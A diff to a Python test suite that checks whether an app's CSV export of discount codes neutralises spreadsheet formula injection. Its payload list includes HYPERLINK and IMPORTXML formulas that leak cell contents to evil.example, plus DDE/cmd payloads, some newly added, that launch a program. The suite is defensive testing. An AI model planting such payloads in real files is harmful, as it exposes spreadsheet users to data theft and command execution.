@@ -7,6 +7,7 @@ Codes are stored through the real repository (as a scan stores them), then expor
 from __future__ import annotations
 
 import os
+import re
 import subprocess
 import sys
 import unicodedata
@@ -45,6 +46,10 @@ FORMULA_PAYLOADS: tuple[str, ...] = (
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click for 20% off")',
     '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
     "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
+    "Sale;=cmd|' /C calc'!A0;end",  # live where the reader splits on ; (most of Europe)
+    "Shop;=2+3;x",
+    "20% off,+cmd|' /C calc'!A0",
+    "tab\t=1+1\tcell",  # live where the reader splits on TAB
     "＝1+1",  # full-width equals sign (U+FF1D), NFKC '='
     "＋1+1",  # full-width plus
     "－1+1",  # full-width hyphen-minus
@@ -91,26 +96,36 @@ def is_live_owasp(cell: str) -> bool:
     return cell.startswith(("=", "+", "-", "@", "\t", "\r"))
 
 
-def is_live(cell: str) -> bool:
-    """Would a spreadsheet opening the CSV evaluate this cell?  Deliberately conservative.
-
-    Excel, LibreOffice and Google Sheets evaluate cells starting with = + - @ (tab and CR too
-    in some versions); LibreOffice's import can trim spaces first, and input methods fold
-    full-width signs to ASCII. A cell starting with the text marker is never evaluated.
-    """
-    if cell.startswith(TEXT_MARKER):
+def piece_is_live(piece: str) -> bool:
+    if piece.startswith(TEXT_MARKER):
         return False
-    if cell.startswith(RAW_TRIGGERS):
+    if piece.startswith(RAW_TRIGGERS):
         return True
-    folded = unicodedata.normalize("NFKC", cell).lstrip()
+    folded = unicodedata.normalize("NFKC", piece).lstrip()
     return folded.startswith(TRIGGERS)
 
 
+def is_live(cell: str) -> bool:
+    """Would a spreadsheet opening the CSV evaluate this cell, or any piece of it?
+
+    Excel, LibreOffice and Google Sheets evaluate cells starting with = + - @ (tab and CR too
+    in some versions); LibreOffice's import can trim spaces first, and input methods fold
+    full-width signs to ASCII. A reader set to split on ; or TAB (most of Europe) sees every
+    piece after a , ; or TAB as a cell of its own. A piece starting with the text marker is
+    never evaluated. Deliberately conservative.
+    """
+    return any(piece_is_live(piece) for piece in re.split(r"[,;\t]", cell)) or piece_is_live(cell)
+
+
+def flattened(value: str) -> str:
+    """What export promises to keep of a value: CR, LF and TAB become spaces (one cell, one line)."""
+    return re.sub(r"\r\n|[\r\n\t]", " ", value)
+
+
 def copyable(cell: str) -> str:
-    """What a user gets back from a cell by deleting the one text marker export may add."""
-    if cell.startswith(TEXT_MARKER) and is_live(cell[1:]):
-        return cell[1:]
-    return cell
+    """What a user gets back from a cell by deleting the text markers export may add."""
+    return re.sub(r"(^|[,;])'(?=\s*[=+\-@\uff1d\uff0b\uff0d\uff20\ufe62\ufe63\ufe66\ufe6b"
+                  r"\u207a\u207c\u208a\u208c\ufb29])", r"\1", cell)
 
 
 def parse_rfc4180(raw: bytes) -> list[list[str]]:
@@ -217,7 +232,7 @@ def test_no_exported_cell_is_a_live_formula(
         message = MailMessage(provider_id=f"<exact{i:02d}@hostile.example>", subject="exact", date=when)
         rows.append((message, FoundCode(code=payload, merchant=f"Exact {i:02d}")))
     store(runtime, rows)
-    stored = {c.message_id: c for c in runtime.queries.codes()}
+    stored = {flattened(c.message_id): c for c in runtime.queries.codes()}
     assert len(stored) == len(rows)
 
     direct, via_cli = export_both_ways(runtime, data_dir, tmp_path / "out")
@@ -235,7 +250,7 @@ def test_no_exported_cell_is_a_live_formula(
             if is_live(cell):
                 live += 1
                 live_examples.append(f"{column}={cell!r}")
-            if column in original and copyable(cell) != original[column]:
+            if column in original and copyable(cell) != flattened(original[column]):
                 wrong_code += 1
                 mangled.append(f"{column}: {original[column]!r} -> {cell!r}")
     checked += len(records[0])
@@ -243,8 +258,8 @@ def test_no_exported_cell_is_a_live_formula(
 
     figures.record("cells checked", checked)
     figures.record("cells live (OWASP leads = + - @ TAB CR)", owasp_live, "0")
-    figures.record("cells live (also after leading whitespace / full-width folding)", live, "0")
-    figures.record("cells not recoverable by dropping the text marker", wrong_code, "0")
+    figures.record("cells live (after whitespace, full-width folding, or split on , ; TAB)", live, "0")
+    figures.record("cells not recoverable by dropping the text markers", wrong_code, "0")
     assert owasp_live == 0
     assert live == 0, f"{live} of {checked} cells a spreadsheet would evaluate: {live_examples[:12]}"
     assert wrong_code == 0, mangled[:10]
@@ -285,7 +300,7 @@ def test_non_ascii_and_control_characters_round_trip(
         rows.append((message, FoundCode(code=f"{value}#{i:02d}", merchant=f"{value} {i:02d}",
                                         discount=value, expires=when)))
     store(runtime, rows)
-    stored = {c.message_id: c for c in runtime.queries.codes()}
+    stored = {flattened(c.message_id): c for c in runtime.queries.codes()}
     assert len(stored) == len(rows)
 
     direct, via_cli = export_both_ways(runtime, data_dir, tmp_path / "out")
@@ -301,12 +316,12 @@ def test_non_ascii_and_control_characters_round_trip(
         assert code is not None, f"message id {message_id!r} did not survive the trip"
         for column, original in text_cells(code).items():
             checked += 1
-            if copyable(cells[column]) != original:
+            if copyable(cells[column]) != flattened(original):
                 mismatches += 1
                 bad.append(f"{column}: {original!r} -> {cells[column]!r}")
         assert cells["expires"] == "2026-05-17T08:30:00+00:00"
         # The stored value itself matches what the scan handed over (SQLite kept NULs etc.).
-    sent = {m.provider_id: (m, c) for m, c in rows}
+    sent = {flattened(m.provider_id): (m, c) for m, c in rows}
     storage_losses = [
         mid for mid, code in stored.items()
         if (code.code, code.merchant, code.subject) != (sent[mid][1].code, sent[mid][1].merchant,
